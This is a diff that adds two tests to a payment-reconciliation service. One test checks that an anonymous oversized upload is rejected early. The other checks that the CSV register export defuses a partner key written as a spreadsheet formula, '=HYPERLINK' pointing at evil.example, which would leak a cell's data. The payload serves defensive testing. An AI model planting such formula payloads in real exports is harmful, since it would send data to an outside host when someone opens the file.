@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { randomUUID } from 'node:crypto';
+import { request as httpRequest } from 'node:http';
 import { sendRaw } from '../../../test/support/raw-http.js';
 import { http, startService, type ServiceUnderTest } from '../../../test/support/service-harness.js';
 import { asStaff } from '../../../test/support/test-credentials.js';
@@ -491,6 +492,53 @@ describe('payment-router: what billing staff see (search, timeline, totals, reco
       );
       expect(res.status).toBe(200);
       expect(res.body.counts.missingOnOurSide).toBe(3004);
+    });
+
+    it('refuses an anonymous large upload 401 before reading its body', async () => {
+      // Announces 10 MB, sends 64 kB and waits: the answer must come while the rest is still unsent.
+      const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
+        const req = httpRequest(`${svc.baseUrl}/v1/reconciliation/days/2026-11-21`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json', 'content-length': String(10 * 1024 * 1024) },
+        });
+        req.on('response', (res) => {
+          let body = '';
+          res.on('data', (c: Buffer) => (body += c.toString()));
+          res.on('end', () => {
+            req.destroy();
+            resolve({ status: res.statusCode ?? 0, body });
+          });
+        });
+        req.on('error', reject);
+        req.write(`{"megapayRegister":"${'x'.repeat(64 * 1024)}`);
+      });
+      expect(answer.status).toBe(401);
+      expect(JSON.parse(answer.body).code).toBe('TOKEN_MISSING');
+    });
+
+    it("defuses a partner's key that a spreadsheet would run as a formula (a key stored before the edge rule)", async () => {
+      const key = '=HYPERLINK("https://evil.example/?"&C2,"x")';
+      // Last, on a day of its own: planted straight into the table, as the edge no longer takes such a key.
+      const id = await plant({
+        key,
+        amount: '15000',
+        created: '2026-11-19T04:00:00Z',
+        steps: [
+          ['AWAITING_DEBIT', '2026-11-19T04:00:00Z'],
+          ['COMPLETED', '2026-11-19T04:00:01Z'],
+        ],
+      });
+      const res = await sendRaw(
+        svc.baseUrl,
+        'GET',
+        '/v1/reconciliation/days/2026-11-19/register',
+        undefined,
+        await asStaff('auditor'),
+      );
+      expect(res.status).toBe(200);
+      expect(res.body.split('\r\n')[1]).toBe(
+        `"'=HYPERLINK(""https://evil.example/?""&C2,""x"")",${id},996555000001,SOCHI,${INN},150.00,COMPLETED,2026-11-19T04:00:01.000Z`,
+      );
     });
   });
 });
